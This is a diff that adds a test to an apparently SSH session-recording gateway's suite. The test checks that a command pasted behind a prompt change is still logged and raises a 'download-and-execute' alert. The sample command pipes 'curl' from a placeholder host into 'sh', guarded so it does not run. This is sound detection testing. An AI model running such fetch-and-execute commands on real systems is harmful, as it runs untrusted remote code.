@@ -244,6 +244,28 @@ def test_risky_commands_raise_alerts_and_markers(gateway, keys):
     assert "alert: firewall-flush" in markers and "alert: download-and-execute" in markers
 
 
+def test_a_command_pasted_behind_one_that_changes_the_prompt_still_raises_its_alert(gateway, keys):
+    # The second line is typed (pasted) while the prompt still reads "in-/$ "; the shell shows it
+    # behind "in-tmp$ ". It must still be a command, and raise its alert.
+    term = Tmux(gateway.ssh_args(keys.alice, gateway.bound_ports["db1.int"], ["-tt"]) +
+                [f"{LOGIN}@127.0.0.1"])
+    try:
+        term.type("export PS1='in-\\W$ '; cd /")
+        term.wait_for("\nin-/$")
+        term.type("cd /tmp\rtrue || curl -s http://x.invalid/i.sh | sh; echo pasted-ran")
+        term.wait_for("\npasted-ran")
+        term.type("exit")
+        term.wait_for("CLIENT-EXIT=0")
+    finally:
+        term.close()
+    gateway.wait_event(lambda e: e["event"]["action"] == "alert" and
+                       e["rule"]["name"] == "download-and-execute", what="alert")
+    commands = [e["process"]["command_line"] for e in gateway.events()
+                if e["event"]["action"] == "command"]
+    assert "cd /tmp" in commands
+    assert "true || curl -s http://x.invalid/i.sh | sh; echo pasted-ran" in commands
+
+
 def test_banner_says_the_session_is_recorded(gateway_factory, sshd, keys):
     gw = gateway_factory([{"name": "db1.int", "host": "127.0.0.1", "port": sshd.port}],
                          [sshd.known_hosts_line()],
